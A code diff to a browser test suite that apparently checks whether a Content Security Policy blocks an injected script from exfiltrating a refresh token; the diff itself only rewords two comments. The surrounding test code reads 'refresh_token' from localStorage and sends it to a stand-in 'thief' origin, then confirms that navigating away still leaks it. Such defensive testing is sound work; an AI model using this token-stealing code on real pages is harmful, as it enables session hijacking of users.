@@ -28,7 +28,7 @@ const test = plain.extend<{ thief: Thief; ours: string }>({
   },
 })
 
-/** What a script that got into the page would try, with all that the browser stores. In the page. */
+/** An injected script's attempts on everything that the browser stores. Runs in the page. */
 async function steal(thief: string): Promise<void> {
   const loot = encodeURIComponent(localStorage.getItem('refresh_token') ?? 'none')
   const to = (way: string) => `${thief}/${way}?${loot}`
@@ -93,7 +93,8 @@ for (const hasPolicy of [true, false]) {
     await enterSession(page, session)
     await page.goto('/')
     await page.evaluate(steal, thief.origin)
-    // What was tried before it has been sent or refused when this one is heard: only leaving the page is not stopped.
+    // Earlier attempts have been sent or refused when this one is received: only leaving the page is not
+    // prevented.
     await page.goto(`${thief.origin}/navigation`)
     expect(thief.heard).toContain('/navigation')
     const stolen = thief.heard.filter((path) => path.includes(encodeURIComponent(session.refresh_token)))
